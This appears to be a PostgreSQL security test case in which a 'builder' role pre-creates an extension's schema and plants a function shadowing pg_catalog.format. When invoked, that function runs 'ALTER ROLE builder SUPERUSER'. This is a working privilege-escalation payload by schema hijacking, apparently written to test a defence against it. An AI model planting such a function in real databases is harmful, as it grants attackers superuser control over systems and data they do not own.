-- S2: the schema is empty; its owner plants the function when the extension is there.
-- @empty
-- @builder
CREATE SCHEMA inferacct;
-- @owner 42501
CREATE EXTENSION inferacct;
-- @builder
CREATE FUNCTION inferacct.format(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE builder SUPERUSER'; RETURN pg_catalog.format($1, $2); END $$;
-- @harm
SELECT EXISTS (SELECT FROM pg_extension WHERE extname = 'inferacct');
